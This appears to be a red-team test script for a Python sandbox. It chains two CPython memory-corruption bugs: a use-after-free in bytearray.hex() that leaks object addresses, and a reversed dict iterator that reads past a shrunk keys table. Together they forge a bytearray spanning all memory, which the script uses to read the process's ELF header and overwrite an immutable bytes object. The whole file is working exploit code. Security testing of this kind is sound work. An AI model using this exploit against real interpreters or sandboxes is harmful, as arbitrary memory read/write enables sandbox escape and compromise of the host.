# technique: cases 579 and 582 chained: the hex() read gives the address of a bytes payload shaped as a bytearray, and the reversed-dict read past the table returns it: a bytearray over all memory that reads the ELF header and rewrites an immutable bytes object (red-team pass 68)
# expect: any
import struct

# --- 1. address of an object (bytearray.hex(sep) reads freed memory, found/01) ---
class P:
    __slots__ = ('a', 'b', 'c', 'd')
def addr_of(obj):
    keep = []
    class S(str):
        def __len__(self):
            ba.clear()
            for i in range(64):
                p = P(); p.a = None; p.b = obj; p.c = p.d = None
                keep.append(p)
            return 1
    ba = bytearray(b'A' * 56)
    w = [struct.unpack('<Q', bytes.fromhex(x))[0] for x in ba.hex(S(':'), 8).split(':')]
    assert w[4] == 0x10163c0, [hex(v) for v in w]   # &_Py_NoneStruct
    return w[5]

BYTEARRAY_TYPE = 0x1001cc0
N = 0x7ffffffffffffff0
fake = struct.pack('<QQQQQQQ', 0x100000, BYTEARRAY_TYPE, N, N, 0, 0, 0)
fake_addr = addr_of(fake) + 32          # bytes payload (ob_sval) starts at +32
print("fake bytearray at", hex(fake_addr))

# --- 2. dict reversed iterator: di_pos past the new, smaller keys table ---
ptr = struct.pack('<Q', fake_addr)
payload = b'\0' * 8 + ptr + ptr + b'\0' * (159 - 24)
spray = [bytearray(payload) for i in range(400)]
d = {}
for i in range(6):
    d[i + 1000] = i
for i in range(5):
    del d[i + 1000]                     # 1 used, 6 entries: di_pos = 5
it = reversed(d)
d.clear()
del spray[200]                          # a 160-byte hole between two sprayed buffers
d[1005] = 5                             # new 8-slot keys table (160 bytes) fills the hole
fb = next(it)                           # entry 5 = the next block = our pointer
print(type(fb).__name__, len(fb) == N)
print(bytes(fb[0x400000:0x400004]))     # the worker's ELF header (non-PIE base)
t = bytes([88]) * 8
ta = addr_of(t) + 32
fb[ta:ta + 5] = b"WRITE"
print(t)
x = 1
